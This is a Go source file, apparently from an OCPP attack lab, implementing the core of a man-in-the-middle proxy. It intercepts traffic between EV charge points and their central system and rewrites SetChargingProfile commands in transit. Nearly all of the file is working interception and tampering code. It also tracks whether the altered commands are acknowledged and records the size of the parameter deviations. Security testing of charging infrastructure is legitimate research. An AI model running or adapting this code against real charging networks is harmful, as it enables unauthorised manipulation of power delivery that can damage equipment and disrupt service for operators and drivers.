package relay

import (
	"encoding/json"
	"math"
	"time"

	"github.com/charging-platform/ocpp-attack-lab/internal/attack"
	"github.com/charging-platform/ocpp-attack-lab/internal/cache"
	"github.com/charging-platform/ocpp-attack-lab/internal/domain/events"
	"github.com/charging-platform/ocpp-attack-lab/internal/domain/ocpp"
	"github.com/charging-platform/ocpp-attack-lab/internal/metrics"
	"github.com/charging-platform/ocpp-attack-lab/internal/session"
)

// 拦截结果, 作为耗时直方图的outcome标签
const (
	outcomeForwarded   = "forwarded"
	outcomeMalformed   = "malformed"
	outcomeManipulated = "manipulated"
	outcomeFailed      = "failed"
)

// interceptFrame 检查一帧并在命中攻击目标时改写
// 解析和篡改的任何失败都回退为原样转发, 只有连接层错误才会中断中继
func (p *Proxy) interceptFrame(sess *session.Session, parser *ocpp.Parser, direction session.Direction, raw []byte) []byte {
	start := time.Now()
	outcome := outcomeForwarded
	defer func() {
		metrics.InterceptDuration.WithLabelValues(outcome).Observe(time.Since(start).Seconds())
	}()

	msg, err := ocpp.DecodeMessage(raw)
	if err != nil {
		outcome = outcomeMalformed
		p.logger.Debugf("Relaying malformed frame for %s unchanged: %v", sess.ChargePointID, err)
		return raw
	}

	if msg.Type == ocpp.CallResultMessage || msg.Type == ocpp.CallErrorMessage {
		p.observeAcknowledgement(sess, direction, msg)
		return raw
	}

	if !p.engine.ShouldManipulate(msg) {
		return raw
	}

	profile, err := parser.ParseSetChargingProfile(msg.Payload)
	if err != nil {
		outcome = outcomeFailed
		metrics.ManipulationFailures.Inc()
		p.logger.Warnf("Failed to parse charging profile in call %s for %s: %v", msg.ID, sess.ChargePointID, err)
		p.publishManipulationError(sess, msg, raw, err)
		return raw
	}
	if profile == nil {
		p.logger.Warnf("SetChargingProfile call %s for %s carries no charging profile, relaying unchanged", msg.ID, sess.ChargePointID)
		return raw
	}

	modified, manipulations, err := p.engine.ManipulateChargingProfile(profile)
	if err != nil {
		outcome = outcomeFailed
		metrics.ManipulationFailures.Inc()
		p.logger.Warnf("Failed to manipulate charging profile in call %s for %s: %v", msg.ID, sess.ChargePointID, err)
		p.publishManipulationError(sess, msg, raw, err)
		return raw
	}

	payload, err := parser.ReinsertChargingProfile(msg.Payload, modified)
	if err != nil {
		outcome = outcomeFailed
		metrics.ManipulationFailures.Inc()
		p.logger.Warnf("Failed to reinsert charging profile in call %s for %s: %v", msg.ID, sess.ChargePointID, err)
		p.publishManipulationError(sess, msg, raw, err)
		return raw
	}

	rewritten, err := ocpp.NewCall(msg.ID, msg.Action, payload).Encode()
	if err != nil {
		outcome = outcomeFailed
		metrics.ManipulationFailures.Inc()
		p.logger.Warnf("Failed to encode manipulated call %s for %s: %v", msg.ID, sess.ChargePointID, err)
		p.publishManipulationError(sess, msg, raw, err)
		return raw
	}

	sess.CountManipulated()
	if p.pending != nil {
		p.pending.Put(cache.PendingManipulation{
			MessageID:     msg.ID,
			ChargePointID: sess.ChargePointID,
			Direction:     direction,
			Action:        msg.Action,
			Strategy:      p.strategy,
			EventCount:    len(manipulations),
			ManipulatedAt: time.Now().UTC(),
		})
	}
	metrics.ManipulationsTotal.WithLabelValues(p.strategy).Inc()

	p.publishManipulated(sess, direction, msg, manipulations)
	p.logger.Infof("Manipulated %s call %s for %s: %d parameter changes", msg.Action, msg.ID, sess.ChargePointID, len(manipulations))

	outcome = outcomeManipulated
	return rewritten
}

// observeAcknowledgement 把应答帧与此前登记的篡改关联起来
// 只观察不修改, 应答无论匹配与否都原样转发
func (p *Proxy) observeAcknowledgement(sess *session.Session, direction session.Direction, msg *ocpp.Message) {
	if p.pending == nil {
		return
	}

	pending, ok := p.pending.Take(msg.ID)
	if !ok {
		return
	}

	// 应答必然从原请求的反方向返回, 同向命中说明消息ID撞上了另一侧的请求
	if pending.Direction == direction {
		p.pending.Put(pending)
		return
	}

	status := acknowledgementStatus(msg)
	elapsed := time.Since(pending.ManipulatedAt).Milliseconds()
	metrics.AcknowledgementsMatched.WithLabelValues(status).Inc()

	info := events.AcknowledgementInfo{
		MessageID: pending.MessageID,
		Action:    pending.Action,
		Strategy:  pending.Strategy,
		Status:    status,
		ElapsedMs: elapsed,
	}
	p.publish(p.factory.CreateManipulationAcknowledgedEvent(sess.ChargePointID, info, p.eventMetadata(sess, msg.ID)))
	p.logger.Infof("Manipulated call %s for %s acknowledged with status %s after %dms",
		pending.MessageID, sess.ChargePointID, status, elapsed)
}

// acknowledgementStatus 从应答帧中提取状态
// CallResult读载荷的status字段, CallError以错误码充当状态
func acknowledgementStatus(msg *ocpp.Message) string {
	if msg.Type == ocpp.CallErrorMessage {
		if msg.ErrorCode != "" {
			return msg.ErrorCode
		}
		return "Error"
	}

	var body struct {
		Status string `json:"status"`
	}
	if err := json.Unmarshal(msg.Payload, &body); err != nil || body.Status == "" {
		return "Unknown"
	}
	return body.Status
}

// publishManipulated 发布配置篡改事件
func (p *Proxy) publishManipulated(sess *session.Session, direction session.Direction, msg *ocpp.Message, manipulations []attack.ManipulationEvent) {
	var maxDeviation float64
	for _, m := range manipulations {
		if d := math.Abs(m.DeviationPercent); d > maxDeviation {
			maxDeviation = d
		}
	}

	info := events.ManipulationInfo{
		MessageID:           msg.ID,
		Action:              msg.Action,
		Strategy:            p.strategy,
		Direction:           string(direction),
		EventCount:          len(manipulations),
		MaxDeviationPercent: maxDeviation,
	}
	p.publish(p.factory.CreateProfileManipulatedEvent(sess.ChargePointID, info, p.eventMetadata(sess, msg.ID)))
}

// publishManipulationError 发布篡改失败事件, 附带未改动的原始帧
func (p *Proxy) publishManipulationError(sess *session.Session, msg *ocpp.Message, raw []byte, cause error) {
	info := events.ErrorInfo{
		Code:        events.ErrorCodeManipulationFailed,
		Description: cause.Error(),
		Timestamp:   time.Now().UTC(),
	}
	p.publish(p.factory.CreateProtocolErrorEvent(sess.ChargePointID, info, string(raw), p.eventMetadata(sess, msg.ID)))
}

// publishUpstreamError 发布上游不可达事件
func (p *Proxy) publishUpstreamError(chargePointID string, version ocpp.Version, cause error) {
	info := events.ErrorInfo{
		Code:        events.ErrorCodeUpstreamUnreachable,
		Description: cause.Error(),
		Timestamp:   time.Now().UTC(),
	}
	metadata := events.Metadata{
		Source:          "mitm-proxy",
		ProtocolVersion: version.String(),
	}
	p.publish(p.factory.CreateProtocolErrorEvent(chargePointID, info, nil, metadata))
}

// publish 发布事件, 失败只记日志不影响中继
func (p *Proxy) publish(event events.Event) {
	if p.publisher == nil {
		return
	}
	if err := p.publisher.PublishEvent(event); err != nil {
		p.logger.Warnf("Failed to publish %s event: %v", event.GetType(), err)
	}
}

// eventMetadata 构造事件元数据
func (p *Proxy) eventMetadata(sess *session.Session, messageID string) events.Metadata {
	md := events.Metadata{
		Source:          "mitm-proxy",
		ProtocolVersion: sess.Version.String(),
	}
	if messageID != "" {
		id := messageID
		md.MessageID = &id
	}
	return md
}
